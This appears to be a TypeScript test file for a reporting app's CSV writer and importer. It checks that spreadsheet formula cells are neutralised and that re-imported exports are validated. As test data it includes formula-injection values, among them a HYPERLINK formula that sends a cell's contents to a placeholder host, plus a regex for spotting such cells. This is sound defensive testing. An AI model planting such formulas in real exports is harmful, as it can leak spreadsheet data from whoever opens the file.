import { after, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { openDatabase, type Database } from '../../electron/core/db/database.ts';
import { OutboxStore } from '../../electron/core/outbox-store.ts';
import { ReportService } from '../../electron/core/report-service.ts';
import { SettingsStore } from '../../electron/core/settings-store.ts';
import { MetaStore } from '../../electron/core/meta-store.ts';
import { EXPORT_COLUMNS, writeReportsCsv } from '../../electron/core/csv-export.ts';
import { exportReportsToFile } from '../../electron/core/csv-export-file.ts';
import { CsvImportError, importReportsCsv } from '../../electron/core/csv-import.ts';
import { describeCsvProblem } from '../../electron/core/csv-problem-text.ts';
import { neutraliseFormula, unescapeFormula } from '../../electron/core/csv-formula.ts';
import { AppError } from '../../shared/errors.ts';
import type { ExportQuery } from '../../shared/export-query.ts';
import { settleReport } from '../helpers/settle-report.ts';
import { excelResaved } from '../helpers/excel-bytes.ts';

// The one CSV writer of the command line and the window, on real SQLite files, read back
// with csv-parse as Excel or a script would, and imported again.

const dir = mkdtempSync(join(tmpdir(), 'upr-export-'));
const dbs: Database[] = [];
after(() => {
  for (const db of dbs) db.close();
  rmSync(dir, { recursive: true, force: true });
});

const NOW = new Date(2025, 4, 20, 12, 0, 0);
const now = () => NOW;
const target = { baseUrl: 'https://rc.ropo24.fi/rest', cid: '123456' };
let n = 0;

/** A store signed in to `target`, with a ReportService making reports as the form does (random ids). */
function newOutbox(): { store: OutboxStore; form: ReportService } {
  const db = openDatabase(join(dir, `outbox-${++n}.sqlite`));
  dbs.push(db);
  const store = new OutboxStore(db);
  const settings = new SettingsStore(new MetaStore(db));
  settings.set({ endpoint: { kind: 'preset', country: 'fi', stage: 'test' }, cid: target.cid });
  return { store, form: new ReportService({ store, settings, now: () => NOW.getTime() }) };
}

const HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"open")';
/** What Excel would run as a formula: the OWASP list and the full-width forms, also after spaces (it skips them). */
const FORMULA_START = /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;

async function exported(store: OutboxStore, query: ExportQuery = {}, options: Parameters<typeof writeReportsCsv>[3] = {}): Promise<string> {
  let text = '';
  await writeReportsCsv(store, query, async (chunk) => {
    text += chunk;
  }, options);
  return text;
}
/** The store's entries in creation order; `list()` gives newest first. */
const inOrder = (store: OutboxStore) => store.list().reverse();
const rowsOf = (text: string, delimiter = ';') =>
  parse(text, { bom: true, columns: true, delimiter }) as Record<(typeof EXPORT_COLUMNS)[number], string>[];

function tricky(form: ReportService): void {
  form.create({ status: 'notdisconnected', usageplacecode: 'X-1', description: HYPERLINK, time: '2024-01-04 10:41:40' });
  form.create({ status: 'notdisconnected', usageplacecode: '-2', customernumber: '+358401234567', description: '@SUM(A1:A9)', time: '2024-01-05 08:15:00' });
  form.create({ status: 'notdisconnected', usageplacecode: 'X-3', description: "'=already quoted", contract_no: '\uFF1D1+1', time: '2024-01-06 09:00:00' });
  form.create({
    status: 'disconnected', usageplacecode: 'X-4', customernumber: 'A1', time: '2024-02-01 07:00:00',
    invoices: [{ invoicenumber: 'LASKU 594294', jobid: '1234' }, { invoicenumber: '594295', jobid: '1235' }],
    description: 'Line one\nline "two"; käytävässä 12 €',
  });
}

describe('the CSV writer', () => {
  test('UTF-8 with BOM, ";" and CRLF; every cell Excel would run as a formula starts with an apostrophe', async () => {
    const { store, form } = newOutbox();
    tricky(form);
    const text = await exported(store);
    assert.ok(text.startsWith('\uFEFFstatus;usageplacecode;customernumber;contract_no;invoices;time;description;id;state;'));
    assert.ok(text.endsWith('\r\n'));
    const rows = rowsOf(text);
    assert.deepEqual(rows.map((r) => r.usageplacecode), ['X-1', "'-2", 'X-3', 'X-4'], 'oldest first');
    assert.equal(rows[0]?.description, `'${HYPERLINK}`);
    assert.match(text, /;"'=HYPERLINK\(""http:\/\/x\.invalid\/\?""&A1,""open""\)";/, 'quoted, the quotes doubled, the apostrophe inside');
    assert.deepEqual([rows[1]?.customernumber, rows[1]?.description], ["'+358401234567", "'@SUM(A1:A9)"]);
    assert.deepEqual([rows[2]?.description, rows[2]?.contract_no], ["''=already quoted", "'\uFF1D1+1"]);
    assert.equal(rows[3]?.description, 'Line one\nline "two"; käytävässä 12 €');
    assert.equal(rows[3]?.invoices, 'LASKU 594294:1234 594295:1235');
    for (const row of rows) for (const cell of Object.values(row)) assert.doesNotMatch(cell, FORMULA_START, cell);
  });

  test('a cell with spaces before its formula (plain, non-breaking, ideographic) is neutralised too', async () => {
    const { store, form } = newOutbox();
    // Ropo One's problem text goes into last_error as it came, leading spaces and all.
    const starts = [' =1+1', '\u00A0=HYPERLINK("http://x.invalid/","open")', '\u3000\uFF1D1+1', '  +2', '\t@x', '\r-3', ' \u00A0 -4', ' \uFF20x'];
    for (const [i, message] of starts.entries()) {
      const { entry } = form.create({ status: 'connected', usageplacecode: `W-${i}`, time: '2024-01-04 10:41:40' });
      settleReport(store, entry.id, NOW.getTime(), { kind: 'failed', error: { code: 'rejected', message, httpStatus: 400, problem: null } });
    }
    const rows = rowsOf(await exported(store));
    assert.deepEqual(rows.map((r) => r.last_error), starts.map((s) => `'${s}`));
  });

  test('neutralising never leaves a formula start, and the import undoes it exactly', () => {
    const unit = fc.constantFrom(' ', '\u00A0', '\u3000', '\t', '\r', '\n', "'", '=', '+', '-', '@', '\uFF1D', '\uFF0B', 'a', '1');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 8 }), (value) => {
        const cell = neutraliseFormula(value);
        assert.doesNotMatch(cell, FORMULA_START, JSON.stringify(cell));
        assert.equal(unescapeFormula(cell), value);
      }),
      { numRuns: 2000 },
    );
  });

  test('a line break alone inside a value is quoted too (the rows stay rows)', async () => {
    const { store, form } = newOutbox();
    form.create({ status: 'notdisconnected', usageplacecode: 'NL-1', description: 'first line\nsecond line', time: '2024-01-04 10:41:40' });
    form.create({ status: 'connected', usageplacecode: 'NL-2', time: '2024-01-04 10:42:00' });
    const text = await exported(store);
    assert.ok(text.includes(';"first line\nsecond line";'));
    assert.deepEqual(rowsOf(text).map((r) => [r.usageplacecode, r.description]), [['NL-1', 'first line\nsecond line'], ['NL-2', '']]);
  });

  test('--separator "," and tab; the page size does not change a byte', async () => {
    const { store, form } = newOutbox();
    tricky(form);
    for (let i = 0; i < 7; i++) form.create({ status: 'connected', usageplacecode: `P-${i}`, time: '2024-03-01 10:00:00' });
    const whole = await exported(store);
    for (const pageSize of [1, 2, 3, 1000]) assert.equal(await exported(store, {}, { pageSize }), whole, `pages of ${pageSize}`);
    assert.deepEqual(rowsOf(await exported(store, {}, { separator: ',' }), ','), rowsOf(whole));
    assert.deepEqual(rowsOf(await exported(store, {}, { separator: '\t' }), '\t'), rowsOf(whole));
  });

  test('filters: state, first and last day of the report\'s time, search; a report made meanwhile is left out', async () => {
    const { store, form } = newOutbox();
    tricky(form);
    const ids = store.list().map((e) => e.id).reverse();
    settleReport(store, ids[1]!, NOW.getTime(), { kind: 'sent', httpStatus: 200 });
    const codes = async (q: ExportQuery, pageSize = 1) => rowsOf(await exported(store, q, { pageSize })).map((r) => r.usageplacecode);
    assert.deepEqual(await codes({ state: 'sent' }), ["'-2"]);
    assert.deepEqual(await codes({ state: 'queued' }), ['X-1', 'X-3', 'X-4']);
    assert.deepEqual(await codes({ from: '2024-01-05', to: '2024-01-06' }), ["'-2", 'X-3']);
    assert.deepEqual(await codes({ from: '2024-01-06' }), ['X-3', 'X-4']);
    assert.deepEqual(await codes({ to: '2024-01-04' }), ['X-1']);
    assert.deepEqual(await codes({ search: 'x-' }), ['X-1', 'X-3', 'X-4']);
    assert.deepEqual(await codes({ search: '594295', state: 'queued' }), ['X-4']);
    assert.deepEqual(await codes({ search: 'lasku' }), ['X-4']);
    assert.deepEqual(await codes({ search: 'X-', state: 'sent' }), []);

    let made = false;
    const text = await writeReportsCsv(store, {}, async () => {
      if (!made) form.create({ status: 'connected', usageplacecode: 'DURING', time: '2024-03-01 10:00:00' });
      made = true;
    }, { pageSize: 1 });
    assert.equal(text.count, 4, 'the log as it was when the export began');
  });

  test('an exported log imports again: nothing already there is queued; a changed row is refused until its id cell is cleared', async () => {
    const { store, form } = newOutbox();
    tricky(form);
    const file = join(dir, 'log.csv');
    writeFileSync(join(dir, 'rows.csv'), 'status;usageplacecode;time\nconnected;IMP-1;2024-01-04 10:40\ndisconnected;IMP-2;2024-01-04 10:41\n');
    await importReportsCsv(join(dir, 'rows.csv'), { store, target, now });
    assert.deepEqual(await exportReportsToFile(store, {}, file), { count: 6 });
    const ids = inOrder(store).map((e) => e.id);

    const again = await importReportsCsv(file, { store, target, now });
    assert.deepEqual([again.queued.length, again.skipped.map((x) => [x.id, x.reason])], [0, ids.map((id) => [id, 'in_outbox'])]);
    assert.deepEqual(again.warnings.map((w) => w.code === 'ignored_columns' && w.names), [['attempts', 'last_error', 'http_status', 'created_at', 'sent_at', 'corrects_id', 'superseded_by']]);

    // Excel's user changes one row, and keeps its id cell: not a new report under the old id.
    const edited = readFileSync(file, 'utf8').replace('Line one', 'Line 1').replace(';2024-01-04 10:40:00;', ';2024-01-04 11:40:00;');
    writeFileSync(file, edited);
    const refused = await importReportsCsv(file, { store, target, now }).catch((e: unknown) => e);
    assert.ok(refused instanceof CsvImportError);
    assert.deepEqual(refused.csvProblems, [
      { code: 'changed_since_export', line: 5, field: null, id: ids[3], fields: ['description'] },
      { code: 'changed_since_export', line: 7, field: null, id: ids[4], fields: ['time'] },
    ]);
    assert.match(describeCsvProblem(refused.csvProblems[0]!), /^Changed since the export: the description differs from report [0-9a-f-]{36} in the outbox, whose id this row has; clear the id cell to send it as a new report\.$/);
    assert.equal(store.list().length, 6);

    // The id cell cleared, the changed row is a new report.
    writeFileSync(file, edited.replace(`;${ids[3]};`, ';;'));
    const changed = await importReportsCsv(file, { store, target, now }).catch((e: unknown) => e);
    assert.ok(changed instanceof CsvImportError, 'the other changed row still has its id');
    writeFileSync(file, edited.replace(`;${ids[3]};`, ';;').replace(`;${ids[4]};`, ';;'));
    const cleared = await importReportsCsv(file, { store, target, now });
    assert.deepEqual(cleared.queued.map((e) => [e.usageplacecode, e.event.description ?? e.event.time]), [
      ['X-4', 'Line 1\nline "two"; käytävässä 12 €'], ['IMP-1', '2024-01-04 11:40:00'],
    ]);
    assert.ok(cleared.queued.every((e) => !ids.includes(e.id)), 'new reports, new ids');
    assert.equal(cleared.skipped.length, 4);
  });

  test('an export saved again by Excel (times to the minute, leading zeros, Windows-1252) imports as the reports it lists', async () => {
    const { store, form } = newOutbox();
    form.create({ status: 'disconnected', usageplacecode: '0012345', customernumber: '007', time: '2024-01-04 10:41:40', description: 'Mittari käytävässä, 12 €' });
    form.create({ status: 'disconnected', usageplacecode: '643007572062443672', time: '2024-01-04 10:42:31', invoices: [{ invoicenumber: 'LASKU 0594294', jobid: '1234' }] });
    form.create({ status: 'notdisconnected', usageplacecode: 'UP-3', time: '2024-01-04 10:43:00', description: 'Łódź 👍 “ok” – done' });
    const ids = inOrder(store).map((e) => e.id);
    const saved = excelResaved(await exported(store));
    const text = new TextDecoder('windows-1252').decode(saved);
    assert.match(text, /;12345;7;;;4\.1\.2024 10\.41;Mittari käytävässä, 12 €;/, 'as Excel writes it');
    assert.match(text, /;643007572062443000;;;LASKU 0594294:1234;4\.1\.2024 10\.42;/);
    assert.match(text, /;\?ód\? \?\? “ok” – done;/);

    const file = join(dir, 'excel.csv');
    writeFileSync(file, saved);
    const again = await importReportsCsv(file, { store, target, now });
    assert.equal(again.encoding, 'windows-1252');
    assert.deepEqual([again.queued.length, again.skipped.map((x) => [x.id, x.reason])], [0, ids.map((id) => [id, 'in_outbox'])]);

    // A real change in such a file is still one.
    writeFileSync(file, excelResaved((await exported(store)).replace('Mittari käytävässä', 'Mittari pihalla').replace('10:42:31', '09:42:31')));
    const refused = await importReportsCsv(file, { store, target, now }).catch((e: unknown) => e);
    assert.ok(refused instanceof CsvImportError);
    assert.deepEqual(refused.csvProblems.map((p) => p.code === 'changed_since_export' && [p.line, p.fields]), [[2, ['description']], [3, ['time']]]);
    assert.equal(store.list().length, 3);
  });

  test('an export imported after the outbox was lost: each report under its own id, and nothing settled comes back', async () => {
    const { store, form } = newOutbox();
    tricky(form);
    const [sent, discarded, failed, queued] = inOrder(store).map((e) => e.id) as [string, string, string, string];
    settleReport(store, sent, NOW.getTime(), { kind: 'sent', httpStatus: 200 });
    store.discard(discarded, NOW.getTime(), 'cli');
    settleReport(store, failed, NOW.getTime(), { kind: 'failed', error: { code: 'rejected', message: 'no', httpStatus: 400, problem: null } });
    const correction = form.correct(failed, { status: 'notdisconnected', usageplacecode: 'X-3', description: 'corrected', time: '2024-01-06 09:00:00' });
    const file = join(dir, 'before-the-loss.csv');
    await exportReportsToFile(store, {}, file);

    const fresh = newOutbox().store;
    const restored = await importReportsCsv(file, { store: fresh, target, now });
    // The id is the one Ropo One knows: a resend of what it already has is recognised as such.
    assert.deepEqual(restored.queued.map((e) => [e.id, e.usageplacecode]), [[queued, 'X-4'], [correction.id, 'X-3']]);
    assert.deepEqual(restored.skipped, [
      { line: 2, id: sent, state: 'sent', reason: 'exported_state' },
      { line: 3, id: discarded, state: 'discarded', reason: 'exported_state' },
      { line: 4, id: failed, state: 'superseded', reason: 'exported_state' },
    ]);
    assert.deepEqual(restored.queued[0]?.event, (await store.get(queued))?.event, 'as it was');
    // Imported again there: all in the outbox now, or settled by the export's word.
    const twice = await importReportsCsv(file, { store: fresh, target, now });
    assert.deepEqual([twice.queued.length, twice.skipped.map((x) => x.reason)], [0, ['exported_state', 'exported_state', 'exported_state', 'in_outbox', 'in_outbox']]);
  });

  test("an exported row whose id is a report of another environment in this outbox is refused, not sent there", async () => {
    const { store, form } = newOutbox();
    const { entry } = form.create({ status: 'connected', usageplacecode: 'T-1', time: '2024-01-04 10:41:40' });
    const file = join(dir, 'test-environment.csv');
    await exportReportsToFile(store, {}, file);
    const production = { baseUrl: 'https://ropo24.fi/rest', cid: target.cid };
    const refused = await importReportsCsv(file, { store, target: production, now }).catch((e: unknown) => e);
    assert.ok(refused instanceof CsvImportError);
    assert.deepEqual(refused.csvProblems, [{ code: 'exported_other_target', line: 2, field: null, id: entry.id, environment: target.baseUrl, cid: target.cid, source: 'outbox' }]);
    assert.match(describeCsvProblem(refused.csvProblems[0]!), /of https:\/\/rc\.ropo24\.fi\/rest \(cid 123456\) in this outbox, not of the environment the app is set to now; clear the id cell/);
    assert.equal(store.list().length, 1);
  });

  test("an export from a test environment, its reports not in this outbox, is refused under another environment or cid and queued under its own", async () => {
    const { store, form } = newOutbox();
    const { entry: waiting } = form.create({ status: 'connected', usageplacecode: 'T-1', time: '2024-01-04 10:41:40' });
    const { entry: sent } = form.create({ status: 'disconnected', usageplacecode: 'T-2', time: '2024-01-04 10:42:00' });
    settleReport(store, sent.id, NOW.getTime(), { kind: 'sent', httpStatus: 200 });
    const file = join(dir, 'from-test.csv');
    await exportReportsToFile(store, {}, file);
    assert.deepEqual(rowsOf(readFileSync(file, 'utf8')).map((r) => [r.environment, r.cid]), [[target.baseUrl, target.cid], [target.baseUrl, target.cid]]);

    const elsewhere = [
      { baseUrl: 'https://ropo24.fi/rest', cid: target.cid }, // production
      { baseUrl: target.baseUrl, cid: '654321' }, // another customer
      { baseUrl: 'simulator://built-in/rest', cid: target.cid },
      { baseUrl: 'http://127.0.0.1:8080/rest', cid: target.cid },
    ];
    for (const other of elsewhere) {
      const fresh = newOutbox().store;
      const refused = await importReportsCsv(file, { store: fresh, target: other, now }).catch((e: unknown) => e);
      assert.ok(refused instanceof CsvImportError, other.baseUrl);
      // Both rows, the one the export lists as sent too: the file is for somewhere else.
      assert.deepEqual(refused.csvProblems, [waiting, sent].map((e, i) => (
        { code: 'exported_other_target', line: i + 2, field: null, id: e.id, environment: target.baseUrl, cid: target.cid, source: 'export' }
      )));
      assert.match(describeCsvProblem(refused.csvProblems[0]!), /^This row is report [0-9a-f-]{36}, which the export lists for https:\/\/rc\.ropo24\.fi\/rest \(cid 123456\), not for the environment and cid the app is set to now, so it is not sent here;/);
      assert.deepEqual(fresh.list(), [], `nothing queued under ${other.baseUrl} ${other.cid}`);
    }

    // The export's environment written another way that means the same, and a cid Excel took the leading zeros of: the same target.
    const zeros = { baseUrl: target.baseUrl, cid: '00123456' };
    const text = readFileSync(file, 'utf8');
    writeFileSync(file, text.replaceAll(';https://rc.ropo24.fi/rest;', ';https://RC.ropo24.fi;'));
    const fresh = newOutbox().store;
    for (const here of [target, zeros]) {
      const restored = await importReportsCsv(file, { store: newOutbox().store, target: here, now });
      assert.deepEqual([restored.queued.map((e) => [e.id, e.target]), restored.skipped.map((s) => [s.id, s.reason])], [[[waiting.id, here]], [[sent.id, 'exported_state']]]);
    }
    // The built-in simulator's export, imported there: its environment is the simulator's name, not an address.
    const simulator = { baseUrl: 'simulator://built-in/rest', cid: target.cid };
    writeFileSync(file, text.replaceAll(';https://rc.ropo24.fi/rest;', ';simulator://built-in/rest;'));
    const atSimulator = await importReportsCsv(file, { store: fresh, target: simulator, now });
    assert.deepEqual(atSimulator.queued.map((e) => e.id), [waiting.id]);
  });

  test('an export without its environment and cid columns: a row not in this outbox is refused, as where it was made for cannot be told', async () => {
    const { store, form } = newOutbox();
    const { entry } = form.create({ status: 'connected', usageplacecode: 'U-1', time: '2024-01-04 10:41:40' });
    const text = await exported(store);
    const cut = (line: string) => line.split(';').filter((_, i) => EXPORT_COLUMNS[i] !== 'environment' && EXPORT_COLUMNS[i] !== 'cid').join(';');
    const file = join(dir, 'cut.csv');
    // The columns removed, or their cells emptied.
    for (const edited of [text.split('\r\n').map(cut).join('\r\n'), text.replace(`;${target.baseUrl};${target.cid};`, ';;;')]) {
      writeFileSync(file, edited);
      const fresh = newOutbox().store;
      const refused = await importReportsCsv(file, { store: fresh, target, now }).catch((e: unknown) => e);
      assert.ok(refused instanceof CsvImportError);
      assert.deepEqual(refused.csvProblems, [{ code: 'exported_target_unknown', line: 2, field: null, id: entry.id }]);
      assert.match(describeCsvProblem(refused.csvProblems[0]!), /is not in this outbox, and the file does not say which environment and cid it was exported for/);
      assert.deepEqual(fresh.list(), []);
      // In the outbox that made it, the outbox knows its target: skipped as before.
      const again = await importReportsCsv(file, { store, target, now });
      assert.deepEqual(again.skipped.map((s) => s.reason), ['in_outbox']);
    }
    // With the id cell cleared it is a new report, as a hand-made file's rows are.
    writeFileSync(file, text.split('\r\n').map(cut).join('\r\n').replace(`;${entry.id};`, ';;'));
    const fresh = newOutbox().store;
    const asNew = await importReportsCsv(file, { store: fresh, target, now });
    assert.equal(asNew.queued.length, 1);
    assert.notEqual(asNew.queued[0]?.id, entry.id);
  });

  test('a report with decomposed accents or CRLF line ends is itself when its export is imported again', async () => {
    const { store, form } = newOutbox();
    const { entry: mac } = form.create({ status: 'notdisconnected', usageplacecode: 'NFD-1', description: 'Mittari ka\u0308yta\u0308va\u0308ssa\u0308', time: '2024-01-04 10:41:40' });
    const { entry: cli } = form.create({ status: 'notdisconnected', usageplacecode: 'CRLF-1', description: 'first\r\nsecond', time: '2024-01-04 10:42:00' });
    assert.equal(mac.event.description, 'Mittari käytävässä', 'stored composed');
    assert.equal(cli.event.description, 'first\nsecond', 'stored with LF');
    // Stored before the report rules normalised text (an older version): still itself.
    const old = { id: randomUUID(), status: 'notdisconnected' as const, usageplacecode: 'OLD-1', time: '2024-01-04 10:43:00', description: 'ka\u0308ytta\u0308va\u0308\r\nrivi' };
    store.enqueue([{ event: old, target }], NOW.getTime());
    const file = join(dir, 'normal-forms.csv');
    await exportReportsToFile(store, {}, file);
    const again = await importReportsCsv(file, { store, target, now });
    assert.deepEqual([again.queued.length, again.skipped.map((s) => s.id)], [0, [mac.id, cli.id, old.id]]);
  });

  test('a file that cannot be written: file_unwritable, and no half-written file', async () => {
    const { store, form } = newOutbox();
    tricky(form);
    const missing = join(dir, 'no-such-folder', 'log.csv');
    await assert.rejects(exportReportsToFile(store, {}, missing), (e: unknown) => e instanceof AppError && e.code === 'file_unwritable');
    const folder = mkdtempSync(join(dir, 'out-'));
    const target = join(folder, 'log.csv');
    writeFileSync(target, 'an older export');
    const reading = new OutboxStore(dbs.at(-1)!);
    await exportReportsToFile(reading, {}, target);
    assert.deepEqual(readdirSync(folder), ['log.csv'], 'the .part file became the file');
    assert.ok(readFileSync(target, 'utf8').includes('X-4'));
    assert.ok(!existsSync(`${target}.part`));
  });
});
